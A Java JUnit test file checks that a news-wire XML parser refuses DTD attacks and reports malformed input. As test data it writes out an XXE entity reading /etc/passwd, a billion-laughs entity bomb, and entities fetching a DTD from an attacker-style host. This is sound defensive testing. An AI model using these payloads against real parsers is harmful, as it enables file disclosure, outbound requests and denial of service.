package news.wire.ingest.formats;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;

import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;

class SafeXmlTest {

    private final SafeXml xml = new SafeXml();

    @Test
    void parsesNamespacedXml() {
        Document document = xml.parse("<?xml version=\"1.0\"?>\n<!-- feed 7 -->"
                + "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"g1\"><itemMeta/></newsItem>");

        assertEquals("newsItem", document.getDocumentElement().getLocalName());
        assertEquals("g1", document.getDocumentElement().getAttribute("guid"));
    }

    @Test
    void refusesAnExternalEntityWithoutFetchingIt() {
        String xxe = "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>";

        assertRefused(xxe);
    }

    @Test
    void refusesABillionLaughsQuickly() {
        StringBuilder bomb = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        bomb.append(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
        for (int i = 2; i <= 9; i++) {
            String previous = "&lol" + (i - 1) + ";";
            bomb.append(" <!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">\n");
        }
        bomb.append("]>\n<lolz>&lol9;</lolz>");

        assertRefused(bomb.toString());
    }

    @Test
    void refusesAParameterEntityThatWouldFetchADtd() {
        assertRefused("<!DOCTYPE x [<!ENTITY % remote SYSTEM \"http://198.51.100.7/evil.dtd\"> %remote;]><x/>");
    }

    @Test
    void refusesAnExternalDtdAfterCommentsAndInstructions() {
        assertRefused("\uFEFF<?xml version=\"1.0\"?><!-- a --><?pi x?>\n"
                + "  <!doctype nitf SYSTEM \"http://198.51.100.7/nitf.dtd\"><nitf/>");
    }

    @Test
    void reportsMalformedXmlWithLineAndColumn() {
        WireFormatException e = assertThrows(WireFormatException.class,
                () -> xml.parse("<nitf>\n  <head>\n    <title>Oops</head>\n</nitf>"));

        assertEquals("malformed-xml", e.kind());
        assertTrue(e.getMessage().contains("line 3"), e.getMessage());
        assertTrue(e.getMessage().contains("column"), e.getMessage());
    }

    @Test
    void refusesUndeclaredEntities() {
        WireFormatException e = assertThrows(WireFormatException.class, () -> xml.parse("<p>caf&eacute;</p>"));

        assertEquals("malformed-xml", e.kind());
    }

    @Test
    void refusesAnEmptyDocument() {
        assertEquals("malformed-xml", assertThrows(WireFormatException.class, () -> xml.parse("")).kind());
    }

    private void assertRefused(String document) {
        WireFormatException e = assertTimeoutPreemptively(Duration.ofSeconds(2),
                () -> assertThrows(WireFormatException.class, () -> xml.parse(document)));
        assertEquals("dtd-refused", e.kind());
    }
}
